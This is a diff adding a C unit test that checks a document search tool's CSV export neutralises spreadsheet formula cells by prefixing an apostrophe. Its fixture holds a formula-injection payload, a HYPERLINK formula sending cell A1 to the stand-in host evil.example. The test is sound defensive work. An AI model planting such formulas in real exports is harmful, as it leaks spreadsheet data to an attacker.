@@ -1055,6 +1055,26 @@ write_bytes (const char *dir, const char *name, const char *data, gssize len)
     ck_assert (g_file_set_contents (path, data, len, NULL));
 }
 
+/* CSV cells that a spreadsheet would run as formulas get an apostrophe first (a helper
+ * attack: "=HYPERLINK(...)" in a document went into the CSV as it was) */
+START_TEST (test_csv_formula_cells)
+{
+    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
+    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
+    write_bytes (dir, "links.txt",
+                 "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") recovery plan\n", -1);
+    evx_test_run_result r = evx_test_run (db, "ingest", "--quiet", dir, NULL);
+    ck_assert_msg (r.status == 0, "%s", r.err);
+    evx_test_run_result_clear (&r);
+    r = evx_test_run (db, "search", "--format", "csv", "recovery", NULL);
+    ck_assert_int_eq (r.status, 0);
+    ck_assert_msg (g_str_has_suffix (r.out, ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+                                            "\"\"Click\"\") recovery plan\"\r\n"),
+                   "%s", r.out);
+    evx_test_run_result_clear (&r);
+}
+END_TEST
+
 START_TEST (test_formats_and_report)
 {
     g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
@@ -1435,6 +1455,7 @@ e2e_suite (void)
     tcase_add_test (tc, test_missing_index_and_bad_query);
     tcase_add_test (tc, test_locked_index);
     tcase_add_test (tc, test_formats_and_report);
+    tcase_add_test (tc, test_csv_formula_cells);
     tcase_add_test (tc, test_hostile_inputs);
     tcase_add_test (tc, test_external_corpus);
     suite_add_tcase (s, tc);
